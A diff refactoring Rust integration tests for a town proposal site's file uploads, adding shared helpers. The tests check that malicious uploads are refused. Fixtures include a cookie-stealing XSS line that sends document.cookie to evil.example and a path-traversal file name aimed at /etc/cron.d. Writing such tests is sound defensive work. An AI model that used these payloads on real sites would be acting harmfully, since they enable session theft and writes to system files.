@@ -175,6 +175,18 @@ async fn upload_png(b: &mut Browser, target: &str, alt: &str, file_name: &str, s
     upload(b, target, alt, file_name, "image/png", &png(size.0, size.1)).await
 }
 
+/// marie's picture of the pond, sent for proposal `id`.
+async fn upload_pond(marie: &mut Browser, id: &str) -> Page {
+    upload_png(
+        marie,
+        &format!("proposal/{id}"),
+        "The pond",
+        "pond.png",
+        (300, 200),
+    )
+    .await
+}
+
 /// The ids of the attachments stored for a proposal.
 async fn stored(town: &TestTown, proposal_id: &str) -> Vec<String> {
     let id = proposal_id.to_string();
@@ -207,10 +219,31 @@ async fn marie_and_her_proposal() -> (TestTown, String) {
     (town, id)
 }
 
+/// marie's proposal, and marie's browser to act on it.
+async fn marie_at_her_proposal() -> (TestTown, String, Browser) {
+    let (town, id) = marie_and_her_proposal().await;
+    let marie = town.browser_of("marie");
+    (town, id, marie)
+}
+
+/// A refused upload left nothing: no row on the proposal, no file on disk.
+async fn assert_nothing_kept(town: &TestTown, id: &str) {
+    assert!(stored(town, id).await.is_empty());
+    assert_eq!(files_on_disk(town), 0);
+}
+
+/// marie's proposal with one image she added: the town, the proposal, her browser, the
+/// attachment ids stored.
+async fn marie_and_her_pond_image() -> (TestTown, String, Browser, Vec<String>) {
+    let (town, id, mut marie) = marie_at_her_proposal().await;
+    upload_pond(&mut marie, &id).await.assert_status(303);
+    let ids = stored(&town, &id).await;
+    (town, id, marie, ids)
+}
+
 #[tokio::test]
 async fn an_author_adds_an_image_shown_with_its_text_and_served_with_long_cache_headers() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let added = upload_png(
         &mut marie,
         &format!("proposal/{id}"),
@@ -278,8 +311,7 @@ async fn an_author_adds_an_image_shown_with_its_text_and_served_with_long_cache_
 
 #[tokio::test]
 async fn a_script_named_jpg_is_refused_and_nothing_is_written() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let script = b"<script>document.location='https://evil.example/?c='+document.cookie</script>";
     let refused = upload(
         &mut marie,
@@ -293,14 +325,12 @@ async fn a_script_named_jpg_is_refused_and_nothing_is_written() {
     refused
         .assert_status(422)
         .assert_contains("neither a JPEG, PNG or WebP image nor a PDF");
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
 }
 
 #[tokio::test]
 async fn an_image_bomb_is_refused_from_its_header_before_decoding() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let bomb = png_bomb();
     assert!(bomb.len() < 1000, "a small file");
     let started = std::time::Instant::now();
@@ -318,14 +348,12 @@ async fn an_image_bomb_is_refused_from_its_header_before_decoding() {
         started.elapsed() < std::time::Duration::from_secs(5),
         "refused at once"
     );
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
 }
 
 #[tokio::test]
 async fn a_polyglot_image_is_served_re_encoded_with_nothing_of_its_script() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let file = polyglot();
     assert!(
         image::load_from_memory(&file).is_ok(),
@@ -363,8 +391,7 @@ async fn a_polyglot_image_is_served_re_encoded_with_nothing_of_its_script() {
 
 #[tokio::test]
 async fn an_upload_of_100_mb_is_cut_off_while_it_streams_and_nothing_is_written() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     const TOTAL: usize = 100 * 1024 * 1024;
     const CHUNK: usize = 64 * 1024;
     let pulled = Arc::new(AtomicUsize::new(0));
@@ -398,14 +425,12 @@ async fn an_upload_of_100_mb_is_cut_off_while_it_streams_and_nothing_is_written(
         read <= 11 * 1024 * 1024,
         "the upload was cut off at the limit, not read to its end: {read} bytes"
     );
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
 }
 
 #[tokio::test]
 async fn a_path_in_the_file_name_is_ignored() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let name = "../../../../etc/cron.d/plan.pdf";
     upload(
         &mut marie,
@@ -451,18 +476,7 @@ async fn a_path_in_the_file_name_is_ignored() {
 
 #[tokio::test]
 async fn someone_else_can_neither_add_to_nor_remove_from_a_proposal_not_theirs() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
-    upload_png(
-        &mut marie,
-        &format!("proposal/{id}"),
-        "The pond",
-        "pond.png",
-        (300, 200),
-    )
-    .await
-    .assert_status(303);
-    let ids = stored(&town, &id).await;
+    let (town, id, mut marie, ids) = marie_and_her_pond_image().await;
     let mut jean = town.browser_of("jean");
     upload_png(
         &mut jean,
@@ -508,8 +522,7 @@ async fn someone_else_can_neither_add_to_nor_remove_from_a_proposal_not_theirs()
         .post(&format!("/attachments/proposal/{id}/{}/remove", ids[0]), &[])
         .await
         .assert_status(303);
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
     town.browser()
         .get(&format!("/uploads/{}/400", ids[0]))
         .await
@@ -518,18 +531,7 @@ async fn someone_else_can_neither_add_to_nor_remove_from_a_proposal_not_theirs()
 
 #[tokio::test]
 async fn a_hidden_proposals_image_is_served_to_staff_only() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
-    upload_png(
-        &mut marie,
-        &format!("proposal/{id}"),
-        "The pond",
-        "pond.png",
-        (300, 200),
-    )
-    .await
-    .assert_status(303);
-    let ids = stored(&town, &id).await;
+    let (town, id, _marie, ids) = marie_and_her_pond_image().await;
     let hidden = id.clone();
     town.state
         .db
@@ -580,8 +582,7 @@ async fn exif_gps_data_is_removed_from_a_photo() {
 
 #[tokio::test]
 async fn an_image_without_its_text_alternative_is_refused() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     let refused = upload_png(
         &mut marie,
         &format!("proposal/{id}"),
@@ -594,8 +595,7 @@ async fn an_image_without_its_text_alternative_is_refused() {
         .assert_status(422)
         .assert_contains("Describe the image in a few words")
         .assert_contains("aria-invalid=\"true\"");
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
 }
 
 #[tokio::test]
@@ -612,15 +612,7 @@ async fn a_proposal_answered_can_no_longer_get_attachments_from_its_author() {
     .await
     .assert_status(303);
     let mut marie = town.browser_of("marie");
-    upload_png(
-        &mut marie,
-        &format!("proposal/{id}"),
-        "The pond",
-        "pond.png",
-        (300, 200),
-    )
-    .await
-    .assert_status(403);
+    upload_pond(&mut marie, &id).await.assert_status(403);
     // Staff still may, on a project or the process page as on the proposal.
     upload_png(
         &mut sam,
@@ -649,8 +641,7 @@ async fn a_proposal_answered_can_no_longer_get_attachments_from_its_author() {
 
 #[tokio::test]
 async fn the_proposal_federates_its_images_and_documents() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     upload_png(
         &mut marie,
         &format!("proposal/{id}"),
@@ -696,8 +687,7 @@ async fn the_proposal_federates_its_images_and_documents() {
 
 #[tokio::test]
 async fn deleting_an_account_deletes_its_uploads_which_its_export_listed() {
-    let (town, id) = marie_and_her_proposal().await;
-    let mut marie = town.browser_of("marie");
+    let (town, id, mut marie) = marie_at_her_proposal().await;
     upload_png(
         &mut marie,
         &format!("proposal/{id}"),
@@ -712,8 +702,7 @@ async fn deleting_an_account_deletes_its_uploads_which_its_export_listed() {
     assert_eq!(export.json()["attachments"][0]["alt_text"], "My street");
     assert_eq!(files_on_disk(&town), 2);
     marie.post("/account/delete", &[("password", PASSWORD)]).await;
-    assert!(stored(&town, &id).await.is_empty());
-    assert_eq!(files_on_disk(&town), 0);
+    assert_nothing_kept(&town, &id).await;
 }
 
 #[tokio::test]
